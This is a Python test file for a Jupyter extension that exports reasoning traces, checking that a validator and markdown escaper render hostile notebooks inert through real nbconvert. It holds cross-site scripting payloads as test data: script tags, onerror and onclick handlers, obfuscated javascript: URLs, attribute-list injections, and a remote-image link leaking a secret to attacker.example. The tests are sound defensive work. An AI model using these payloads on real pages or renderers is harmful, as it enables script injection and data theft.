"""A notebook from someone else is untrusted input: the exporters read its saved traces through
a validator, escape every field, skip what is malformed with a warning, and never crash or
emit live HTML. Here: the validator, the markdown escaper (against two renderers that pass raw
HTML through), and the hostile notebook that ``test_export.py`` sends through the real
``jupyter nbconvert``."""

from __future__ import annotations

import ast
import json
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import mistune
import nbformat
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from reasoning_nb.core.schema import KNOWN_FIELDS
from reasoning_nb.core.trace import Trace, read_trace
from reasoning_nb.export import exporters
from reasoning_nb.views import code_look, diverge_view, render, trace_labels
from reasoning_nb.views import compare as compare_view

WIDGET_VIEW = "application/vnd.jupyter.widget-view+json"
PAYLOAD = (
    "<script>alert(1)</script><img src=x onerror=alert(2)>"
    '<a href="javascript:alert(3)">a</a><div onclick="alert(4)">d</div>'
    "[md](javascript:alert(5)) <svg onload=alert(6)> <javascript:alert(7)> "
    '[e](java&#115;cript:alert(8)) <iframe src="javascript:alert(9)"></iframe>'
    "[t](java\tscript:alert(10)) <style>body{display:none}</style>"
)

# -- what "live" means ----------------------------------------------------------------------------

_ACTIVE_TAGS = {"iframe", "object", "embed", "svg", "math", "base", "form", "style", "link", "meta"}


class _LiveFinder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[object] = []
        self._script = False

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "script":
            self._script = True
        if tag in _ACTIVE_TAGS:
            self.found.append(tag)
        for name, value in attrs.items():
            if name.startswith("on"):
                self.found.append((tag, name))
            url = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if url.startswith(("javascript:", "vbscript:", "data:text")):
                self.found.append((tag, name, value))
        if tag == "img" and attrs.get("src") == "x":
            self.found.append("img src=x")

    def handle_endtag(self, tag):
        if tag == "script":
            self._script = False

    def handle_data(self, data):
        if self._script and "alert(" in data:
            self.found.append(("script", data[:60]))


def live_html(text: str) -> list[object]:
    """Active content an attacker put there: scripts with the payload, event handlers,
    script URLs, embedding tags. nbconvert's own template scripts do not match, nor do the
    package's own stylesheets for highlighted code, a comparison and where runs part (constants)."""
    finder = _LiveFinder()
    for style in (code_look.CODE_STYLE, compare_view.STYLE, diverge_view.STYLE):
        text = text.replace(style, "")
    finder.feed(text)
    return finder.found


def live_document(text: str) -> list[object]:
    """A whole exported page: its template has its own <meta>, <style> and scripts, so
    embedding tags are looked for in <main> (the cells) and the rest everywhere."""
    main = text[text.index("<main>") : text.index("</main>")]
    everywhere = [f for f in live_html(text) if f not in _ACTIVE_TAGS]
    return live_html(main) + everywhere


def live_markdown(text: str) -> list[object]:
    """Render with raw HTML passed through (CommonMark and mistune) and look for live HTML."""
    return [
        *live_html(MarkdownIt("commonmark", {"html": True}).render(text)),
        *live_html(mistune.create_markdown(escape=False)(text)),
    ]


def test_the_finders_see_the_payload():
    assert len(live_html(PAYLOAD)) >= 8
    assert live_markdown(PAYLOAD)


# -- the hostile notebook -------------------------------------------------------------------------


def hostile_trace(tag: str, **over) -> dict:
    trace = {
        "schema": 1,
        "model": f"llamacpp:{PAYLOAD}",
        "provider": PAYLOAD,
        "preset": PAYLOAD,
        "budget_tokens": None,
        "prompt": PAYLOAD,
        "reasoning": f"HOSTILE-REASONING-{tag} {PAYLOAD}\nsecond hostile reasoning line {tag}",
        "answer": f"answer {tag} {PAYLOAD}",
        "usage": {"input_tokens": 1, "output_tokens": 2, "reasoning_tokens": 3},
        "timing": {"first_token_ms": 1.0, "reasoning_ms": 2.0, "total_ms": 3.0},
        "status": "complete",
        "finish_reason": PAYLOAD,
        "warnings": [PAYLOAD, f"warn {PAYLOAD}"],
        "error": PAYLOAD,
        "request": {"x": PAYLOAD},
        "provider_state": {"signature": f"HOSTILE-REASONING-{tag}"},
        "started_at": PAYLOAD,
    }
    trace.update(over)
    return trace


def traced(meta: dict, model_id: str | None = None, plain: str | None = None):
    data = {"text/html": PAYLOAD, "text/markdown": PAYLOAD, "text/plain": plain or PAYLOAD}
    if model_id:
        data[WIDGET_VIEW] = {"model_id": model_id, "version_major": 2, "version_minor": 0}
    return nbformat.v4.new_output("display_data", data=data, metadata=meta)


def html_model(value: str) -> dict:
    return {
        "model_module": "@jupyter-widgets/controls",
        "model_module_version": "2.0.0",
        "model_name": "HTMLModel",
        "state": {"value": value},
    }


def hostile_notebook() -> nbformat.NotebookNode:
    outputs = [
        [traced({"reasoning_nb": hostile_trace("A")}, "m1")],
        [
            traced(
                {
                    "reasoning_nb": hostile_trace(
                        "B",
                        usage="lots",
                        timing=[],
                        schema=2,
                        status=PAYLOAD,
                        budget_tokens="9",
                        warnings="not a list",
                        **{PAYLOAD: 1},
                    ),
                    "reasoning_nb_history": [hostile_trace("H"), "junk", 5],
                }
            )
        ],
        [
            traced(
                {
                    "reasoning_nb": hostile_trace(
                        "C",
                        reasoning=["not", "text"],
                        answer=7,
                        model=None,
                        error={"x": 1},
                        usage={"input_tokens": -1, "output_tokens": True, PAYLOAD: 2},
                        timing={"total_ms": float("inf"), "reasoning_ms": "1"},
                        warnings=[1, PAYLOAD],
                    )
                }
            )
        ],
        [traced({"reasoning_nb": "not an object"}, "m9", plain=f"plain\n\n{PAYLOAD}\n</pre>")],
        [traced({"reasoning_nb": ["HOSTILE-REASONING-D"]})],
        [traced({"reasoning_nb_history": "junk"})],
        [  # --compare outputs: one partly readable, one not a list, one with nothing readable
            traced(
                {
                    "reasoning_nb": hostile_trace("E"),
                    "reasoning_nb_compare": [hostile_trace("E"), hostile_trace("F", usage=[]), "x"],
                }
            ),
            traced({"reasoning_nb": hostile_trace("G"), "reasoning_nb_compare": "junk"}),
            traced({"reasoning_nb": hostile_trace("I"), "reasoning_nb_compare": [1, None]}),
        ],
        [nbformat.v4.new_output("stream", name="stdout", text=f"HOSTILE-REASONING-A {PAYLOAD}\n")],
    ]
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell("# A notebook from a stranger")]
    nb.cells += [nbformat.v4.new_code_cell("%%think\nQ", outputs=o) for o in outputs]
    state = {
        "m1": {
            **html_model(""),
            "model_name": "VBoxModel",
            "state": {"children": ["IPY_MODEL_m2"]},
        },
        "m2": html_model(f"HOSTILE-REASONING-A in the widget {PAYLOAD}"),
        "m3": html_model("an orphan pane: HOSTILE-REASONING-A"),
        "m9": html_model("HOSTILE-REASONING-D behind an unreadable trace"),
    }
    state["m1"]["state"] = {"children": ["IPY_MODEL_m2"]}
    nb.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "version_major": 2,
            "version_minor": 0,
            "state": state,
        }
    }
    return nb


# -- odd numbers and long junk, through the real nbconvert ----------------------------------------

BIG = 10**400
"""Valid JSON, and past any float: ``float(BIG)`` raises OverflowError."""


def odd_numbers_notebook() -> nbformat.NotebookNode:
    """10**400 as a count, a time and a cost, in a trace, its history and a compare output's
    variants; a history of 100,000 junk entries; then a plain run, which must survive it all."""
    odd = hostile_trace("ODD", usage={"output_tokens": BIG}, timing={"total_ms": BIG})
    odd["cost"] = {"usd": BIG, "estimate": True, "source": "genai-prices 1"}
    plain = hostile_trace("PLAIN", answer="PLAIN-ANSWER")
    outputs = [
        traced({"reasoning_nb": odd, "reasoning_nb_history": [odd]}),
        traced({"reasoning_nb": plain, "reasoning_nb_variants": [odd]}),
        traced({"reasoning_nb": plain, "reasoning_nb_history": ["junk"] * 100_000}),
        traced({"reasoning_nb": plain}),
    ]
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell("%%think\nQ", outputs=[o]) for o in outputs]
    return nb


@pytest.mark.parametrize(
    "mode,fmt,suffix",
    [
        ("collapsible", "html", ".html"),
        ("strip", "markdown", ".md"),
        ("inline", "notebook", ".ipynb"),
    ],
)
def test_odd_numbers_and_long_junk_export_with_bounded_warnings(tmp_path, mode, fmt, suffix):
    source = tmp_path / "odd.ipynb"
    source.write_text(json.dumps(odd_numbers_notebook()))
    done = subprocess.run(
        [sys.executable, "-m", "jupyter", "nbconvert", f"--to=reasoning-{fmt}", str(source),
         f"--ReasoningPreprocessor.mode={mode}", f"--output-dir={tmp_path / 'out'}"],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    assert "Traceback" not in done.stderr
    text = (tmp_path / "out" / f"odd{suffix}").read_text()
    assert text.count("PLAIN-ANSWER") >= 3 and "answer ODD" in text  # every output is there
    warnings = [line for line in done.stderr.splitlines() if "reasoning_nb:" in line]
    assert len(warnings) < 40  # at most 8 problems an output, then a count: not 100,002 lines
    assert "cell 3, output 1: ... and 99992 more problems" in done.stderr
    for where in ("cell 1, output 1: field usage.output_tokens", "cell 1, output 1: history 1",
                  "cell 2, output 1: variant 2: field 'cost'"):  # fmt: skip
        assert where in done.stderr


# -- the validator --------------------------------------------------------------------------------


def test_read_trace_round_trips_a_good_trace():
    trace = Trace(model="ollama:q", provider="ollama", reasoning="r", answer="a", status="complete")
    trace.usage["reasoning_tokens"] = 5
    trace.timing["total_ms"] = 10.5
    again, problems = read_trace(trace.to_dict())
    assert problems == [] and again.to_dict() == trace.to_dict()


@pytest.mark.parametrize(
    "data",
    [None, "x", 3, [], {"usage": "lots"}, {"timing": []}, {"schema": "1"}, {"warnings": {}}],
)
def test_read_trace_never_raises(data):
    trace, problems = read_trace(data)
    assert problems
    if trace is not None:
        render.bundle(trace, "collapsible")


@settings(max_examples=60, deadline=None)
@given(
    st.dictionaries(
        st.sampled_from([*sorted(KNOWN_FIELDS), "other"]),
        st.recursive(
            st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
            lambda inner: (
                st.lists(inner, max_size=3)
                | st.dictionaries(st.text(max_size=8), inner, max_size=3)
            ),
            max_leaves=8,
        ),
    )
)
def test_any_saved_trace_renders_or_is_refused(data):
    trace, _problems = read_trace(data)
    assert trace is not None
    for mode in render.MODES:
        render.bundle(trace, mode)


# -- the markdown escaper -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "plain **bold** and a [link](https://example.org)",
        "code:\n\n```python\nif a < b and c & d:\n    pass\n```\n\ndone",
    ],
)
def test_inert_markdown_stays_markdown(text):
    assert render.safe_markdown(text) == text


@pytest.mark.parametrize(
    "text",
    [
        PAYLOAD,
        "`<img src=x onerror=alert(1)>`",  # an inline code span: renderers differ, so not trusted
        "```\n<img src=x onerror=alert(1)>\n````\n",  # closing fence longer: not strict
        "```\na ``` b\n<img src=x onerror=alert(1)>\n```\n",  # backticks inside
        "```\n<img src=x onerror=alert(1)>",  # unclosed
        "   ```\n<img src=x onerror=alert(1)>\n   ```",  # indented fences
        "~~~\n<img src=x onerror=alert(1)>\n~~~",  # tildes: not a fence to Python-Markdown
        "[x][1]\n\n[1]: javascript:alert(1)",
        "[x](JaVa\nScRiPt:alert(1))",
        "a\n\n<div>\n\n<img src=x onerror=alert(1)>\n\n</div>",
    ],
)
def test_markdown_with_html_or_script_links_is_embedded_as_safe_html(text):
    out = render.safe_markdown(text)
    assert out != text and out.startswith('<div class="reasoning-nb-md ')
    assert live_markdown(out) == []
    assert live_markdown(render.quote(out)) == []


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "<img src=x onerror=alert(1)>",
                "<script>alert(1)</script>",
                "[l](javascript:alert(1))",
                "&#106;avascript:",
                "`",
                "```",
                "````",
                "\n",
                "\n\n",
                "    ",
                "> ",
                "<",
                "&",
                "text",
                "*",
                "java",
                "script:alert(1)",
                "</pre>",
                "<pre>",
            ]
        ),
        max_size=12,
    ).map("".join)
)
def test_safe_markdown_is_never_live(text):
    out = render.safe_markdown(text)
    assert live_markdown(out) == []
    assert live_markdown(render.quote(render.safe_markdown(text, allow_fences=False))) == []


def test_labels_stay_on_one_line():
    trace, _ = read_trace(
        {"model": "m\n\n<b>x</b>\u202e", "preset": "p" * 500, "reasoning": "r", "answer": "a"}
    )
    label = trace_labels.summary(trace)
    assert "\n" not in label and "\u202e" not in label and len(label) < 200
    markdown = render.to_markdown(trace, "collapsible")
    assert "<summary>Reasoning · ≈1 token</summary>" in markdown  # (who ran it: the footer)
    assert re.search(r"\*m &lt;b&gt;x&lt;/b&gt;\u202e? · preset p{23}… · complete\*", markdown)


def test_listing_exporters_does_not_import_the_preprocessor():
    """Lab's menu lists (imports and instantiates) every exporter; a failing import there
    empties the whole menu, so the exporter module stays light and the work is deferred."""
    from nbconvert.exporters import get_exporter

    tree = ast.parse((Path(exporters.__file__)).read_text())
    imported = {
        (node.module if isinstance(node, ast.ImportFrom) else alias.name).split(".")[0]
        for node in ast.walk(tree)
        if isinstance(node, (ast.Import, ast.ImportFrom)) and node.col_offset == 0
        for alias in node.names
    }
    # (jinja2: nbconvert's own dependency, for the context its filters take)
    allowed = {"__future__", "copy", "sys", "nbconvert", "jinja2", "traitlets"}
    assert imported <= allowed, imported
    deferred = ("reasoning_nb.export.preprocessor", "reasoning_nb.export.mathml")
    saved = {name: sys.modules.pop(name) for name in deferred if name in sys.modules}
    try:
        for name in ("reasoning-html", "reasoning_markdown", "reasoning-notebook"):
            get_exporter(name)()
        for name in deferred:
            assert name not in sys.modules, name
    finally:
        sys.modules.update(saved)


# -- the command-line wrapper (its conversions run in test_export.py) ----------------------------


def test_export_wrapper_arguments_and_errors(capsys, tmp_path):
    from reasoning_nb.__main__ import main

    with pytest.raises(SystemExit) as exc:
        main(["export", str(tmp_path / "missing.ipynb")])
    assert exc.value.code == 2 and "no such notebook" in capsys.readouterr().err
    with pytest.raises(SystemExit) as exc:
        main(["export", "--help"])
    assert exc.value.code == 0 and "--mode {collapsible,inline,strip}" in capsys.readouterr().out

    from reasoning_nb.export import cli

    args = cli.argparse.Namespace(
        notebooks=["a.ipynb"], to="md", mode="strip", output=None, output_dir="out"
    )
    assert cli.nbconvert_args(args) == [
        "a.ipynb",
        "--to=reasoning-markdown",
        "--ReasoningPreprocessor.mode=strip",
        "--output-dir=out",
    ]


def test_prompt_cli_still_parses_without_export(capsys):
    from reasoning_nb.__main__ import main

    with pytest.raises(SystemExit) as exc:
        main(["--help"])
    assert exc.value.code == 0 and "prompt" in capsys.readouterr().out


# -- links and images ------------------------------------------------------------------------------

PROGRAM_LINKS = ["vscode://file/etc/passwd", "ms-officecmd:launch", "ssh://host", "rel/page.html"]


@pytest.mark.parametrize("target", PROGRAM_LINKS)
def test_only_web_mail_and_anchor_links_are_live(target):
    text = f"[open]({target}) [web](https://x.org) [m](mailto:a@b.c) [t](#t)"
    html_out = render.markdown_html(text)
    assert f"[open]({target})" in html_out  # shown as the text it was
    assert re.findall(r'href="([^"]*)"', html_out) == ["https://x.org", "mailto:a@b.c", "#t"]
    assert render.safe_markdown(f"[open]({target})") != f"[open]({target})"  # not verbatim
    assert render.safe_markdown("[web](https://x.org)") == "[web](https://x.org)"


@pytest.mark.parametrize(
    "text",
    ["![x](https://attacker.example/?q=SECRET)", "![x][i]\n\n[i]: https://attacker.example/?q=S"],
)
def test_a_remote_image_is_a_link_and_never_loads(text):
    for out in (render.markdown_html(text), render.safe_markdown(text)):
        assert "<img" not in out and 'href="https://attacker.example/?q=S' in out
    assert "![" not in render.safe_markdown(text)  # a markdown file never holds the image


# -- attribute lists (issue 22, item 23) -----------------------------------------------------------

ATTRIBUTES = (
    '{: onmouseover="alert(1)" style="position:fixed;inset:0"}',
    "{onclick=alert(2) style=x}",
)


def _attribute_text(a: str, b: str) -> str:
    """Every place an attribute list attaches to something: a paragraph's end, a line of its
    own, a heading, an emphasis, a code span, a link, a list item, a table cell, inside math
    (where a ``\\{`` would change the TeX) and a fence's info string."""
    return (
        f"Para {a}\n{b}\n\n# Heading {b}\n\n*em*{a} and `code`{b} and [l](https://x.org){b}\n\n"
        f"- item {b}\n- *x*{a}\n\n| h |\n|---|\n| c {b} |\n\n"
        f"Math $*a*{b}$ and \\(*b*{a}\\) and $$x {a}$$ then $x^{{2}}$.\n\n"
        f"```{{.py onclick=alert(3)}}\nx\n```"
    )


class _AttributeFinder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.found += [(tag, n) for n, _ in attrs if n.startswith("on") or n == "style"]


def acting_attributes(markdown_text: str) -> list[tuple[str, str, str]]:
    """Elements with an event handler or a style, in the HTML of three renderers: Python-Markdown
    with ``attr_list`` (as MkDocs has it), markdown-it and mistune (raw HTML passed through)."""
    import markdown

    extensions = ["attr_list", "fenced_code", "tables", "md_in_html"]
    found = []
    for name, rendered in (
        ("python-markdown", markdown.markdown(markdown_text, extensions=extensions)),
        (
            "markdown-it",
            MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown_text),
        ),
        ("mistune", mistune.create_markdown(escape=False, plugins=["table"])(markdown_text)),
    ):
        finder = _AttributeFinder()
        finder.feed(rendered)
        found += [(name, *f) for f in finder.found]
    return found


def test_the_attribute_finder_sees_attribute_lists():
    assert ("python-markdown", "p", "onmouseover") in acting_attributes(f"x\n{ATTRIBUTES[0]}")


@pytest.mark.parametrize("text", [*ATTRIBUTES, _attribute_text(*ATTRIBUTES)])
def test_safe_markdown_sets_no_attributes(text):
    for allow_fences in (True, False):
        out = render.safe_markdown(text, allow_fences=allow_fences)
        assert acting_attributes(out) == [] and acting_attributes(render.quote(out)) == []
    assert "{: onmouseover" in render.markdown_html(render.safe_markdown(ATTRIBUTES[0]))


def test_tex_braces_stay_markdown():
    text = "Sum $\\sum_{i=1}^{n} x_{i}$ and \\(\\frac{a}{b}\\), $\\text{one}$."
    assert render.safe_markdown(text) == text.replace("\\(", "$").replace("\\)", "$")
    assert render.safe_markdown("a {b} c") == "a \\{b} c"  # shown as "a {b} c" everywhere


def _attribute_notebook() -> nbformat.NotebookNode:
    a, b = ATTRIBUTES
    text = _attribute_text(a, b)
    trace = Trace(
        model=f"llamacpp:m{a}",
        provider="llamacpp",
        preset=f"high {b}",
        reasoning=f"Thinking {a}\n\n{text}",
        answer=text,
        status="complete",
        warnings=[a, f"warn {b}"],
        error=f"boom {a}",
    ).to_dict()
    other = {**trace, "model": f"llamacpp:other{b}", "answer": f"{text}\n\nmore {a}"}
    outputs = [
        traced({"reasoning_nb": trace, "reasoning_nb_history": [other]}),
        traced({"reasoning_nb": trace, "reasoning_nb_compare": [trace, other]}),
    ]
    nb = nbformat.v4.new_notebook()
    nb.cells = [
        nbformat.v4.new_code_cell(f"%%think --preset high\nQ {a}", outputs=[o]) for o in outputs
    ]
    return nb


@pytest.mark.parametrize("mode", ["collapsible", "inline"])
def test_markdown_export_of_every_field_sets_no_attributes(tmp_path, mode):
    """Through the real ``jupyter nbconvert``: model, preset, reasoning, answer, warnings, error,
    history and a comparison, each holding attribute lists."""
    import subprocess

    source = tmp_path / "attrs.ipynb"
    nbformat.write(_attribute_notebook(), source)
    command = [sys.executable, "-m", "jupyter", "nbconvert", "--to=reasoning-markdown", str(source)]
    command += [f"--ReasoningPreprocessor.mode={mode}", f"--output-dir={tmp_path}"]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    exported = (tmp_path / "attrs.md").read_text()
    assert exported.count("onmouseover") >= 8  # the text is there, as text
    assert acting_attributes(exported) == []
